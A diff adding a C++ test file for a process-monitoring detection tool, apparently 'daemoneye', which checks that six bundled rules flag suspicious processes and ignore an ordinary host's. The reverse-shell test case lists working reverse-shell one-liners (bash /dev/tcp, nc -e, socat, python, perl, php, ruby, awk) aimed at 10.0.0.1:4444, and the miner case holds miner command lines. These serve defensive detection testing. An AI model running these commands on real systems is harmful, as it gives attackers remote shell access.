@@ -1,0 +1,239 @@
+// The rules shipped in daemoneye/rules/: each loads through the guarded
+// engine, and over a real store finds exactly the processes it is meant to,
+// among an ordinary host's processes that it must leave alone.
+
+#include <gtest/gtest.h>
+
+#include <airssys/daemoneye/query_engine.hpp>
+#include <airssys/daemoneye/rule.hpp>
+#include <airssys/daemoneye/store.hpp>
+#include <algorithm>
+#include <cstdlib>
+#include <filesystem>
+#include <map>
+#include <set>
+#include <string>
+#include <vector>
+
+#include "store_test_util.hpp"
+
+namespace airssys::daemoneye {
+namespace {
+
+using test::proc;
+using test::TempDir;
+namespace fs = std::filesystem;
+
+fs::path rules_dir() {
+  if (const char* src = std::getenv("AIRSSYS_SOURCE_DIR"); src != nullptr && *src != '\0') {
+    return fs::path(src) / "daemoneye/rules";
+  }
+  return DAEMONEYE_RULES_DIR;
+}
+
+ProcessRecord kernel_thread(std::int64_t pid, std::string name) {
+  ProcessRecord r = proc(pid, std::move(name), "", "", 2);
+  r.cmdline = "";
+  r.uid = r.euid = r.gid = r.egid = 0;
+  r.on_disk = -1;
+  r.sha256 = "";
+  return r;
+}
+
+ProcessRecord with(ProcessRecord r, auto&& change) {
+  change(r);
+  return r;
+}
+
+// An ordinary server: none of these may raise an alert.
+std::vector<ProcessRecord> ordinary_host() {
+  return {
+      proc(1, "systemd", "/usr/lib/systemd/systemd", "/sbin/init", 0),
+      kernel_thread(2, "kthreadd"),
+      kernel_thread(3, "kworker/0:1-events"),
+      kernel_thread(4, "ksoftirqd/0"),
+      kernel_thread(5, "migration/0"),
+      kernel_thread(6, "rcu_sched"),
+      kernel_thread(7, "kswapd0"),
+      kernel_thread(8, "irq/9-acpi"),
+      proc(500, "sshd", "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"),
+      proc(501, "bash", "/usr/bin/bash", "-bash", 500),
+      proc(502, "vim", "/usr/bin/vim.basic", "vim /tmp/notes.txt", 501),
+      proc(600, "nginx", "/usr/sbin/nginx", "nginx: master process /usr/sbin/nginx -g daemon on;"),
+      proc(601, "nginx", "/usr/sbin/nginx", "nginx: worker process", 600),
+      proc(700, "php-fpm8.2", "/usr/sbin/php-fpm8.2",
+           "php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)"),
+      proc(701, "php-fpm8.2", "/usr/sbin/php-fpm8.2", "php-fpm: pool www", 700),
+      proc(800, "python3", "/usr/bin/python3.11", "/usr/bin/python3 /opt/app/server.py --port 8080"),
+      proc(801, "python3", "/usr/bin/python3.11", "python3 -c import socket; print(socket.gethostname())",
+           501),
+      proc(802, "watchdog", "/usr/sbin/watchdog", "/usr/sbin/watchdog"),
+      proc(803, "kubelet", "/usr/bin/kubelet", "/usr/bin/kubelet --config=/var/lib/kubelet/config.yaml"),
+      proc(804, "cron", "/usr/sbin/cron", "/usr/sbin/cron -f"),
+      proc(805, "bash", "/usr/bin/bash", "/bin/bash /usr/local/bin/backup.sh", 804),
+      proc(806, "nc", "/usr/bin/nc.openbsd", "nc -zv db.internal 5432", 501),
+      proc(807, "socat", "/usr/bin/socat", "socat TCP-LISTEN:8080,fork TCP:localhost:80"),
+      proc(808, "git", "/usr/bin/git", "git clone https://github.com/example/stratum-docs", 501),
+      proc(809, "sh", "/usr/bin/dash", "sh -c mkfifo /run/app/control", 804),
+      proc(810, "ls", "/usr/bin/ls", "ls -l /dev/tcp", 501),
+      proc(811, "make", "/usr/bin/make", "make -j4", 501),
+      with(proc(812, "gcc", "/usr/bin/gcc-12", "gcc -c x.c", 811), [](auto& r) { r.cwd = "/tmp/build"; }),
+      proc(813, "tool", "/tmpfiles/tool", "/tmpfiles/tool", 501),
+      with(proc(814, "daemon", "/usr/sbin/daemon", "daemon"), [](auto& r) { r.on_disk = -1; }),
+      proc(815, "perl", "/usr/bin/perl", "perl -e print 1", 501),
+  };
+}
+
+struct Case {
+  std::vector<ProcessRecord> matching;
+  std::vector<ProcessRecord> not_matching;
+};
+
+std::map<std::string, Case> cases() {
+  std::map<std::string, Case> c;
+  c["exe-deleted"] = {
+      {with(proc(1000, "evil", "/usr/bin/evil"), [](auto& r) { r.on_disk = 0; })},
+      {proc(1001, "fine", "/usr/bin/fine")},
+  };
+  c["exec-from-tmp"] = {
+      {proc(1000, "x", "/tmp/x"), proc(1001, "y", "/var/tmp/.cache/y"), proc(1002, "z", "/dev/shm/z")},
+      {proc(1003, "tmp", "/usr/bin/tmp"), proc(1004, "x", "/srv/tmp/x")},
+  };
+  c["webserver-shell"] = {
+      {proc(1000, "sh", "/usr/bin/dash", "sh -c id", 601),
+       proc(1001, "bash", "/usr/bin/bash", "bash -i", 701),
+       proc(1002, "python3", "/usr/bin/python3.11", "python3 -c import pty", 1100),
+       proc(1003, "perl", "/usr/bin/perl", "perl /usr/lib/cgi-bin/x.pl", 1101)},
+      {proc(1004, "sh", "/usr/bin/dash", "sh -c id", 804),
+       proc(1005, "php-fpm8.2", "/usr/sbin/php-fpm8.2", "x", 700),
+       proc(1006, "id", "/usr/bin/id", "id", 601)},
+  };
+  // Parents for the web server case.
+  c["webserver-shell"].not_matching.push_back(
+      proc(1100, "apache2", "/usr/sbin/apache2", "/usr/sbin/apache2 -k start"));
+  c["webserver-shell"].not_matching.push_back(
+      proc(1101, "httpd", "/usr/sbin/httpd", "/usr/sbin/httpd -DFOREGROUND"));
+  c["crypto-miner"] = {
+      {proc(1000, "xmrig", "/opt/xmrig", "./xmrig"), proc(1001, "XMRig", "/opt/XMRig", "XMRig"),
+       proc(1002, "a", "/opt/a", "./a -o stratum+tcp://pool.example.net:4444 -u 44abc"),
+       proc(1003, "b", "/opt/b", "./b --url=stratum2+tcp://pool:3333"),
+       proc(1004, "c", "/opt/c", "./c --donate-level 1 -o pool:443"),
+       proc(1005, "d", "/opt/d", "./d -a cryptonight -o pool:3333")},
+      {proc(1006, "stratum", "/usr/bin/stratum", "stratum --help"),
+       proc(1007, "minerva", "/usr/bin/minerva", "m")},
+  };
+  c["reverse-shell"] = {
+      {proc(1000, "bash", "/usr/bin/bash", "bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
+       proc(1001, "sh", "/usr/bin/dash", "sh -c exec 5<>/dev/udp/10.0.0.1/53"),
+       proc(1002, "nc", "/usr/bin/nc.traditional", "nc -e /bin/sh 10.0.0.1 4444"),
+       proc(1003, "ncat", "/usr/bin/ncat", "ncat 10.0.0.1 4444 --sh-exec /bin/bash"),
+       proc(1004, "socat", "/usr/bin/socat", "socat TCP:10.0.0.1:4444 EXEC:/bin/bash,pty,stderr"),
+       proc(1005, "python3", "/usr/bin/python3.11",
+            "python3 -c import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
+            "s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])"),
+       proc(1006, "perl", "/usr/bin/perl",
+            "perl -e use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
+            "if(connect(S,sockaddr_in(4444,inet_aton(\"10.0.0.1\")))){open(STDIN,\">&S\");exec(\"/bin/sh "
+            "-i\");};"),
+       proc(1007, "php", "/usr/bin/php8.2",
+            "php -r $sock=fsockopen(\"10.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3\");"),
+       proc(1008, "ruby", "/usr/bin/ruby3.1",
+            "ruby -rsocket -e f=TCPSocket.open(\"10.0.0.1\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d\",f)"),
+       proc(1009, "sh", "/usr/bin/dash",
+            "sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f"),
+       proc(1010, "gawk", "/usr/bin/gawk", "gawk BEGIN {s = \"/inet/tcp/0/10.0.0.1/4444\"; while(1) {}}")},
+      {proc(1011, "nc", "/usr/bin/nc.openbsd", "nc -l 1234"),
+       proc(1012, "socat", "/usr/bin/socat", "socat - UNIX-CONNECT:/run/app.sock"),
+       proc(1013, "python3", "/usr/bin/python3.11", "python3 /opt/socket_server.py")},
+  };
+  c["kernel-thread-mimic"] = {
+      {proc(1000, "kworker/0:1", "/usr/local/bin/kw", "kworker/0:1"),
+       proc(1001, "kworkerds", "/usr/bin/kworkerds", "/usr/bin/kworkerds"),
+       proc(1002, "bash", "/usr/bin/bash", "[kthreadd]"), proc(1003, "migration/3", "/opt/m", "migration/3"),
+       proc(1004, "rcu_gp", "/opt/r", "rcu_gp")},
+      {kernel_thread(1005, "kworker/u8:2"), proc(1006, "kded5", "/usr/bin/kded5", "kded5"),
+       proc(1007, "echo", "/usr/bin/echo", "echo [x]")},
+  };
+  return c;
+}
+
+class BundledRules : public ::testing::Test {
+ protected:
+  void SetUp() override {
+    auto s = Store::open({.path = tmp_ / "d.db"});
+    ASSERT_TRUE(s) << s.error();
+    store_ = std::move(*s);
+    auto e = QueryEngine::open(tmp_ / "d.db");
+    ASSERT_TRUE(e) << e.error();
+    engine_ = std::move(*e);
+  }
+  TempDir tmp_;
+  std::unique_ptr<Store> store_;
+  std::unique_ptr<QueryEngine> engine_;
+};
+
+TEST_F(BundledRules, AllLoadThroughTheGuardedEngine) {
+  RuleSet set = load_rules(rules_dir(), engine_.get());
+  for (const auto& e : set.errors) ADD_FAILURE() << e.message;
+  std::vector<std::string> ids;
+  for (const auto& r : set.rules) {
+    ids.push_back(r.id);
+    EXPECT_TRUE(r.enabled) << r.id;
+    EXPECT_FALSE(r.description.empty()) << r.id;
+    EXPECT_TRUE(std::ranges::any_of(r.tags, [](const std::string& t) { return t.starts_with("attack.t"); }))
+        << r.id << " has no ATT&CK technique tag";
+    // The default dedup key (pid, start_time) needs both in every result.
+    auto cols = engine_->columns(r.query);
+    ASSERT_TRUE(cols) << cols.error();
+    EXPECT_TRUE(std::ranges::find(*cols, "pid") != cols->end()) << r.id;
+    EXPECT_TRUE(std::ranges::find(*cols, "start_time") != cols->end()) << r.id;
+  }
+  EXPECT_EQ(ids, (std::vector<std::string>{"crypto-miner", "exe-deleted", "exec-from-tmp",
+                                           "kernel-thread-mimic", "reverse-shell", "webserver-shell"}));
+}
+
+TEST_F(BundledRules, EachFindsExactlyItsProcesses) {
+  RuleSet set = load_rules(rules_dir(), engine_.get());
+  ASSERT_TRUE(set.errors.empty());
+  const auto all_cases = cases();
+  ASSERT_EQ(all_cases.size(), set.rules.size());
+  for (const Rule& rule : set.rules) {
+    SCOPED_TRACE(rule.id);
+    auto it = all_cases.find(rule.id);
+    ASSERT_NE(it, all_cases.end()) << "no test case for rule " << rule.id;
+    std::vector<ProcessRecord> snapshot = ordinary_host();
+    std::set<std::int64_t> expected;
+    for (const auto& p : it->second.matching) {
+      snapshot.push_back(p);
+      expected.insert(p.pid);
+    }
+    for (const auto& p : it->second.not_matching) snapshot.push_back(p);
+    ASSERT_TRUE(store_->apply_snapshot(snapshot));
+
+    auto result = engine_->run(rule.query);
+    ASSERT_TRUE(result) << result.error();
+    const auto pid_col = std::ranges::find(result->columns, "pid") - result->columns.begin();
+    std::set<std::int64_t> found;
+    for (const auto& row : result->rows)
+      found.insert(std::get<std::int64_t>(row[static_cast<std::size_t>(pid_col)]));
+    EXPECT_EQ(found, expected);
+    EXPECT_EQ(result->rows.size(), expected.size());
+  }
+}
+
+TEST_F(BundledRules, ABadFileBesideThemIsRejectedAndTheOthersLoad) {
+  TempDir dir;
+  for (const auto& entry : fs::directory_iterator(rules_dir()))
+    fs::copy_file(entry.path(), dir / entry.path().filename());
+  test::write_file(dir / "broken.yaml",
+                   "id: broken\nname: Broken\nseverity: high\nquery: SELECT pid FROM procs\n");
+  RuleSet set = load_rules(dir.path(), engine_.get());
+  EXPECT_EQ(set.rules.size(), 6u);
+  ASSERT_EQ(set.errors.size(), 1u);
+  EXPECT_EQ(set.errors[0].file, dir / "broken.yaml");
+  EXPECT_EQ(set.errors[0].message,
+            (dir / "broken.yaml").string() + ":4: query refused: no such table: procs");
+}
+
+}  // namespace
+}  // namespace airssys::daemoneye
